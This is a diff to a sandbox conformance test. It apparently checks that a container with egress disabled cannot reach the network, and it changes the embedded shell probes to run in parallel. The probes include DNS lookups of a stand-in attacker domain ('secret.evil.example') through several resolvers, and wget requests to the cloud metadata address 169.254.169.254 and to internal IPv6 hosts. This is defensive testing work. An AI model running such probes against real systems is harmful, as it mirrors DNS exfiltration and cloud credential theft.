@@ -48,12 +48,12 @@ export function describeNetwork({ bench }: Conformance): void {
         nslookup secret.evil.example | grep -q Address.*[.][0-9]*$ && echo answered >&3
         timeout 5 wget -q -O - http://169.254.169.254/ >/dev/null 2>&1 && echo 'reached a metadata service' >&3
         for resolver in 10.0.2.3 10.255.255.53 169.254.1.1; do
-          timeout 3 nslookup secret.evil.example $resolver >/dev/null 2>&1 && echo "asked $resolver" >&3
+          timeout 3 nslookup secret.evil.example $resolver >/dev/null 2>&1 && echo "asked $resolver" >&3 &
         done
         for host in '[fec0::2]' '[fd00:ec2::254]' '[fe80::1]'; do
-          timeout 3 wget -q -O - http://$host/ >/dev/null 2>&1 && echo "reached $host" >&3
+          timeout 3 wget -q -O - http://$host/ >/dev/null 2>&1 && echo "reached $host" >&3 &
         done
-        true`;
+        wait`;
       const sandbox = await bench().start(script, { egress: { mode: 'none' } });
       expect(await outputOf(sandbox)).toBe('1\n');
       const { contacted, refused } = await bench().egressOf(sandbox);
